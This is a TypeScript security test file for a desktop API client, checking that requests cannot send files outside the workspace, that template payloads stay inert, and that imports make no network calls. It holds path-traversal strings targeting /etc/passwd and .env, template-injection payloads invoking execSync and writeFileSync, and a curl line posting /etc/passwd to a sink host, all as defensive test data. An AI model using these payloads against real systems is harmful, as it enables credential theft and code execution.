import { spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { rm, symlink, writeFile } from 'node:fs/promises';
import net from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeEach, describe, expect, it } from 'vitest';
import { createFileAccess } from '../../electron/core/files/file-access.ts';
import { createSentBody } from '../../electron/core/files/sent-body.ts';
import { createHttpClient } from '../../electron/core/http/client.ts';
import type { HttpClient } from '../../electron/core/http/http-types.ts';
import { applyPlan } from '../../electron/core/import/apply-plan.ts';
import { openWorkspace, type Workspace } from '../../electron/core/workspace/workspace.ts';
import type { ImportFile } from '../../shared/import/import-format.ts';
import { readImport } from '../../shared/import/read-import.ts';
import { planImport } from '../../shared/import/to-workspace.ts';
import type { JsonValue } from '../../shared/model/json.ts';
import type * as Interpolate from '../../shared/variables/interpolate.ts';
import { launchApp } from '../support/app-driver.ts';
import { runCli } from '../support/cli-run.ts';
import { partsOf } from '../support/e2e-window.ts';
import { chatDraft } from '../support/history-runs.ts';
import { startLoopbackServer } from '../support/loopback-server.ts';
import { temporaryFolder } from '../support/temporary-folder.ts';
import { call } from '../support/window-bridge.ts';
import { makeEscapePlace } from './support/escape-place.ts';
import { loadWithFault } from './support/fault.ts';
import { recordFigure, rounds } from './support/gate.ts';

const GATE = 'path-escapes';
const POSTMAN = 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json';

let root: string;
let outside: string;
let workspace: Workspace;

beforeEach(async () => {
  ({ root, outside, workspace } = await makeEscapePlace());
});

/** A connection without a key, to a server that would see what is sent. */
async function connectTo(baseUrl: string): Promise<string> {
  const connection = { sidecall: 2, info: { name: 'Sink' }, provider: 'openai-compatible', baseUrl } as const;
  return (await workspace.saveConnection(null, { ...connection, auth: { type: 'none' } })).id;
}

/** Sends files of the workspace, and no others. */
function clientOfWorkspace(): HttpClient {
  const access = createFileAccess({ rootPath: async () => root, grants: () => [] });
  return createHttpClient({ openBody: (request) => createSentBody(request, access) });
}

/** Takes files of other programs in, and says which requests came of them. */
async function takeIn(files: ImportFile[]): Promise<string[]> {
  const { document } = readImport('auto', files);
  const { requestPaths } = await applyPlan(planImport(document, 'Imported'), {
    workspace,
    folderPath: 'collections',
    vault: null,
    requests: null,
    hasEnvironments: true,
    resolveBaseUrl: (url) => url,
  });
  return requestPaths;
}

/** Files that a request of somebody else's names, to have them sent. */
async function hostileFiles(): Promise<string[]> {
  await symlink(join(outside, 'mine.txt'), join(root, 'link.png'));
  await symlink(outside, join(root, 'folder-link'));
  await symlink('/dev/zero', join(root, 'zero.png'));
  spawnSync('mkfifo', [join(root, 'pipe.png')]);
  await writeFile(join(root, '.env'), 'KEY=1');
  return [
    ...[
      '../outside/mine.txt',
      'collections/../../outside/mine.txt',
      '..\\outside\\mine.txt',
      '%2e%2e/outside/mine.txt',
    ],
    ...[
      join(outside, 'mine.txt'),
      '/etc/passwd',
      '/proc/self/environ',
      '/dev/zero',
      '//host/share/x.png',
      '\\\\host\\share\\x.png',
    ],
    ...[
      'C:\\Windows\\win.ini',
      'c:x',
      'link.png',
      'folder-link/mine.txt',
      'zero.png',
      'pipe.png',
      '.env',
      'collections',
      'a\0b',
    ],
    ...['///etc/passwd', '//localhost/etc/passwd', `//${join(outside, 'mine.txt')}`],
  ];
}

describe('files that a request names', () => {
  it('are not sent: the server receives no byte, whatever the way that they are named', async () => {
    const server = await startLoopbackServer((_request, response) => response.end('{}'));
    const client = clientOfWorkspace();
    try {
      const sent: string[] = [];
      const paths = await hostileFiles();
      for (const path of paths) {
        for (const form of ['bytes', 'base64'] as const) {
          const request = {
            method: 'POST',
            url: `${server.origin}/x`,
            headers: [] as [string, string][],
            body: 'ab',
            files: [{ at: 1, path, form }],
          };
          const { done } = client.send(request as never, { handlers: {}, timeouts: {} } as never);
          const outcome = await Promise.race([
            done,
            new Promise<null>((resolve) => setTimeout(() => resolve(null), 4_000)),
          ]).catch((error: unknown) => ({ error }));
          if (outcome === null) sent.push(`${JSON.stringify(path)} keeps the app waiting`);
          else if (outcome.error === null) sent.push(JSON.stringify(path));
        }
      }
      expect(sent).toEqual([]);
      expect([server.connections, server.seen]).toEqual([0, []]);
      recordFigure(GATE, 'ways to name a foreign file, none of them sent', paths.length);
    } finally {
      await client.close();
      await server.close();
    }
  });

  it('are named by the command line as what it did not send', async () => {
    const server = await startLoopbackServer((_request, response) => response.end('{}'));
    try {
      await hostileFiles();
      const id = await connectTo(server.origin);
      for (const path of ['../outside/mine.txt', 'link.png', '/etc/passwd', 'pipe.png']) {
        const content = [{ type: 'image_url', image_url: { url: `file:${path}` } }];
        const body = { model: 'm', messages: [{ role: 'user', content }] };
        const made = await workspace.createRequest('collections', { ...chatDraft('Hi'), connection: id, body });
        const run = await runCli(['send', join(root, made.path)]);
        expect(run.code, path).not.toBe(0);
        expect(run.stderr, path).toMatch(/outside the workspace|not a path inside|no plain file/);
        expect(run.stderr).toContain(path.split('/').at(-1));
      }
      expect([server.connections, server.seen]).toEqual([0, []]);
    } finally {
      await server.close();
    }
  });

  it('control: a file of the workspace is sent', async () => {
    const server = await startLoopbackServer((_request, response) => response.end('{}'));
    const client = clientOfWorkspace();
    await writeFile(join(root, 'cat.txt'), 'cat');
    const request = {
      method: 'POST',
      url: `${server.origin}/x`,
      headers: [],
      body: 'ab',
      files: [{ at: 1, path: 'cat.txt', form: 'bytes' }],
    };
    await client.send(request as never, { handlers: {}, timeouts: {} } as never).done;
    expect(server.seen[0]?.body).toBe('acatb');
    await client.close();
    await server.close();
  });
});

describe('templates that other programs would run', () => {
  const MARKER = '/tmp/sidecall-marker-of-a-template';
  const PAYLOADS = [
    `{{range.constructor("return process.mainModule.require('fs').writeFileSync('${MARKER}','')")()}}`,
    `{{ [].constructor.constructor("return process")().mainModule.require('child_process').execSync('touch ${MARKER}') }}`,
    `{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}`,
    `{{constructor}} {{__proto__}} {{toString}} {{hasOwnProperty}} {{__proto__.polluted}}`,
    `\${require('fs').writeFileSync('${MARKER}', '')} <%= global.process %> #{7*7} {{7*7}} \`touch ${MARKER}\` $(touch ${MARKER})`,
    `{{'a'.constructor.prototype.charAt=[].join;$eval('x=1')}}`,
  ];

  afterAll(() => rm(MARKER, { force: true }));

  /** What a template did besides standing there as text. */
  function doings({ interpolate }: typeof Interpolate): string[] {
    const own = Object.getOwnPropertyNames(Object.prototype).join();
    const doings: string[] = [];
    for (const payload of PAYLOADS) {
      const { text } = interpolate(payload, [
        { source: 'request', label: 'r', variables: new Map([['known', '{{constructor}}']]) },
      ]);
      if (text !== payload) doings.push(`${payload} became ${text}`);
    }
    if (existsSync(MARKER)) doings.push('a file was made');
    if (Object.getOwnPropertyNames(Object.prototype).join() !== own) doings.push('prototypes were changed');
    return doings;
  }

  it('stand as the text that they are, in requests, imports and files', async () => {
    expect(doings(await import('../../shared/variables/interpolate.ts'))).toEqual([]);
    const event = [{ listen: 'prerequest', script: { exec: [`require('fs').writeFileSync('${MARKER}','')`] } }];
    const item = PAYLOADS.map((text) => ({
      name: text,
      event,
      request: { method: 'POST', url: `https://h.example/${text}`, body: { mode: 'raw', raw: text } },
    }));
    const text = JSON.stringify({ info: { name: 'x', schema: POSTMAN }, event, item });
    const paths = await takeIn([{ name: 'c.json', text }]);
    const titles = await Promise.all(paths.map(async (path) => (await workspace.readRequest(path)).draft.info.name));
    expect(titles).toEqual(PAYLOADS);
    expect(existsSync(MARKER)).toBe(false);
    expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
  });

  it('control: a substitution that evaluates is found out', async () => {
    const file = 'shared/variables/interpolate.ts';
    const faulty = await loadWithFault<typeof Interpolate>(file, [
      {
        file,
        find: '      if (!isVariableName(name)) return placeholder;\n      const scope = scopes.find',
        replace:
          "      if (!isVariableName(name)) { try { return String(new Function('return ' + inner)()); } catch { return placeholder; } }\n      const scope = scopes.find",
      },
    ]);
    expect(doings(faulty)).not.toEqual([]);
    await rm(MARKER, { force: true });
  });
});

describe('opening and importing', () => {
  /** Addresses that were called, or looked up, while something was done. */
  async function contactsDuring(work: () => Promise<unknown>): Promise<string[]> {
    const contacts: string[] = [];
    const { connect } = net.Socket.prototype;
    net.Socket.prototype.connect = function spied(this: net.Socket, ...input: unknown[]) {
      contacts.push(JSON.stringify(input[0]));
      return Reflect.apply(connect, this, input) as net.Socket;
    } as typeof connect;
    try {
      await work();
    } finally {
      net.Socket.prototype.connect = connect;
    }
    return contacts;
  }

  it('send nothing and look nothing up', async () => {
    const url = 'https://sink.invalid/x';
    const spec = {
      openapi: '3.1.0',
      info: { title: 'x', version: '1' },
      servers: [{ url }],
      paths: { '/a': { get: { responses: { 200: { $ref: 'https://sink.invalid/ref.json' } } } } },
    };
    const files: ImportFile[][] = [
      [
        {
          name: 'c.json',
          text: JSON.stringify({
            info: { name: 'x', schema: POSTMAN },
            item: [{ name: 'a', request: { method: 'GET', url } }],
          }),
        },
      ],
      [{ name: 'o.json', text: JSON.stringify(spec) }],
      [{ name: '', text: `curl ${url} -d @/etc/passwd --next ${url}` }],
    ];
    const contacts = await contactsDuring(async () => {
      for (const texts of files) await takeIn(texts);
      await (await openWorkspace(root)).read();
    });
    expect(contacts).toEqual([]);
  });

  it('control: a call is seen', async () => {
    const contacts = await contactsDuring(() => fetch('http://127.0.0.1:4/').catch(() => null));
    expect(contacts.length).toBeGreaterThan(0);
  });

  it('in the app sends nothing, and a request that names a foreign file says what was not sent', async () => {
    const server = await startLoopbackServer((_request, response) => response.end('{}'));
    const id = await connectTo(server.origin);
    const content: JsonValue = [
      { type: 'text', text: 'See' },
      { type: 'image_url', image_url: { url: 'file:../outside/mine.txt' } },
    ];
    const docs = `![a](${server.origin}/a.png) <img src="${server.origin}/b.png">`;
    await workspace.createRequest('collections', {
      ...chatDraft('Hi', { info: { name: 'Leaky' }, docs }),
      connection: id,
      body: { model: 'm', messages: [{ role: 'user', content }] },
    });
    const driver = await launchApp({ workspacePath: root, userDataPath: join(await temporaryFolder(), 'profile') });
    try {
      const { page } = driver;
      await partsOf(page).open('Leaky');
      const text = JSON.stringify({
        info: { name: 'x', schema: POSTMAN },
        item: [{ name: 'a', request: { method: 'GET', url: `${server.origin}/c` } }],
      });
      await call(page, 'import.preview', { text } as never).catch(() => null);
      await new Promise((resolve) => setTimeout(resolve, rounds(2_000, 5_000)));
      expect(server.connections).toBe(0);
      await page.keyboard.press('ControlOrMeta+Enter');
      await page
        .getByText(/not a path inside this workspace|outside the workspace/)
        .first()
        .waitFor();
      expect([server.connections, server.seen]).toEqual([0, []]);
    } finally {
      await driver.close();
      await server.close();
    }
  });
});
